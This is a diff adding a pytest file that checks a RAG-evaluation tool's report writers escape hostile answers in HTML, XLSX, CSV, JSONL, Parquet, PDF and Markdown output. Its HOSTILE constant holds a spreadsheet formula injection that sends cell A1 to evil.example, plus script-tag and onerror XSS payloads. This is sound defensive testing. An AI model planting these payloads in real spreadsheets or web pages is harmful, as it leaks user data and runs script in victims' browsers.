@@ -1,0 +1,110 @@
+"""Reports read back: HTML parsed, XLSX re-read, PDF pages counted; hostile answers escaped and neutralised."""
+
+from __future__ import annotations
+
+import json
+from html.parser import HTMLParser
+
+import pandas as pd
+import pytest
+
+from rageval_desktop.cli import main
+from rageval_desktop.core.reports import write_report
+from rageval_desktop.core.reports.write import neutralise
+from tests.core.test_metrics import build
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click") <script>alert(1)</script> <img src=x onerror=alert(2)> $x^2$'
+
+
+@pytest.fixture
+def project(tmp_path):
+    p = build(tmp_path, v2_breaks="keyword-heavy")
+    with p.write("hostile") as w:  # a hostile answer on a failing row, so it reaches the failure samples
+        w.execute("UPDATE run_rows SET answer = ?, question = ? WHERE external_id = 'g10' AND run_id = "
+                  "(SELECT id FROM runs WHERE name = 'v2')", (HOSTILE, "-1+1 @SUM(A1) question?"))
+        w.execute("UPDATE retrieved_passages SET in_prompt = (rank <= 5) WHERE run_row_id = (SELECT rr.id FROM "
+                  "run_rows rr JOIN runs r ON r.id = rr.run_id WHERE r.name = 'v2' AND rr.external_id = 'g10')")
+    yield p
+    p.close()
+
+
+class Collector(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict]] = []
+        self.text: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data):
+        self.text.append(data)
+
+
+def test_html_is_self_contained_and_escaped(project, tmp_path):
+    out = write_report(project, "v2", tmp_path / "r.html", baseline="v1")
+    html = out.read_text()
+    parsed = Collector()
+    parsed.feed(html)
+    tags = [t for t, _ in parsed.tags]
+    assert "script" not in tags and "iframe" not in tags
+    imgs = [a for t, a in parsed.tags if t == "img"]
+    assert len(imgs) == 2 and all(a["src"].startswith("data:image/png;base64,") for a in imgs)
+    assert not any(a.get("onerror") for _, a in parsed.tags)
+    assert "http://evil" not in "".join(a.get("src", "") + a.get("href", "") for _, a in parsed.tags)
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+    assert HOSTILE in "".join(parsed.text)          # shown as the text it is
+    assert "Dashboard — v2" in html and "Comparison — v2 vs v1" in html and "Judge health" in html
+    assert "keyword-heavy" in html
+
+
+def test_xlsx_reads_back_with_formulas_neutralised(project, tmp_path):
+    out = write_report(project, "v2", tmp_path / "r.xlsx", baseline="v1")
+    sheets = pd.read_excel(out, sheet_name=None)
+    assert set(sheets) == {"dashboard", "comparison", "judges", "failures"}
+    dash = sheets["dashboard"]
+    value = dash[(dash["slice"] == "keyword-heavy") & (dash["metric"] == "recall@5")]["value"].iloc[0]
+    assert value == 0.0
+    failures = sheets["failures"]
+    answers = failures.loc[failures["external_id"] == "g10", "answer"].tolist()
+    assert answers == ["'" + HOSTILE]
+    assert failures.loc[failures["external_id"] == "g10", "question"].iloc[0] == "'-1+1 @SUM(A1) question?"
+    from openpyxl import load_workbook
+
+    cells = [c.value for row in load_workbook(out)["failures"].iter_rows() for c in row]
+    assert not any(isinstance(v, str) and v.startswith(("=", "+", "-", "@")) for v in cells)
+
+
+def test_csv_neutralised_jsonl_and_parquet_raw(project, tmp_path):
+    csv = pd.read_csv(write_report(project, "v2", tmp_path / "r.csv"))
+    assert csv["text"].dropna().str.contains("HYPERLINK").any()
+    assert not csv["text"].dropna().str.startswith(("=", "+", "-", "@")).any()
+    rows = [json.loads(line) for line in write_report(project, "v2", tmp_path / "r.jsonl").read_text().splitlines()]
+    assert any(r["section"] == "failure" and r["text"].startswith("g10: -1+1") for r in rows)
+    parquet = pd.read_parquet(write_report(project, "v2", tmp_path / "r.parquet"))
+    assert len(parquet) == len(rows)
+
+
+def test_pdf_has_pages_and_keeps_dollar_signs(project, tmp_path):
+    from pypdf import PdfReader
+
+    reader = PdfReader(write_report(project, "v2", tmp_path / "r.pdf", baseline="v1"))
+    assert len(reader.pages) == 4    # dashboard, comparison, judges + failure counts, failures to read
+    text = "".join(page.extract_text() for page in reader.pages)
+    assert "keyword-heavy" in text and "$x^2$" in text.replace(" ", "")
+
+
+def test_markdown_and_cli(project, tmp_path, capsys):
+    project.close()
+    path = str(tmp_path / "m.rageval")
+    assert main(["report", path, "--run", "v2", "--baseline", "v1", "--out", str(tmp_path / "r.md")]) == 0
+    md = (tmp_path / "r.md").read_text()
+    assert "| keyword-heavy | 10 | 0.0 |" in md and "### Against v1" in md
+    assert main(["report", path, "--run", "v2", "--out", str(tmp_path / "r.docx")]) == 1
+    assert "cannot write 'r.docx'" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("value, expected", [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"),
+                                             ("\tx", "'\tx"), ("\rx", "'\rx"), ("ok", "ok"), (3.5, 3.5)])
+def test_neutralise(value, expected):
+    assert neutralise(value) == expected
